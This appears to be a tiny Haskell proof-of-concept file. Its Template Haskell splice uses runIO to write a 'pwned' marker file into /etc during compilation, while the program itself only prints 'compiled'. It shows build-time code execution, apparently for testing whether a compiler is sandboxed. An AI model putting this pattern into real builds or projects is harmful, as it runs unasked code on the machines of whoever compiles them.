{-# LANGUAGE TemplateHaskell #-}
import Language.Haskell.TH
$(runIO (writeFile "/etc/pwned" "pwned") >> return [])
main :: IO ()
main = putStrLn "compiled"
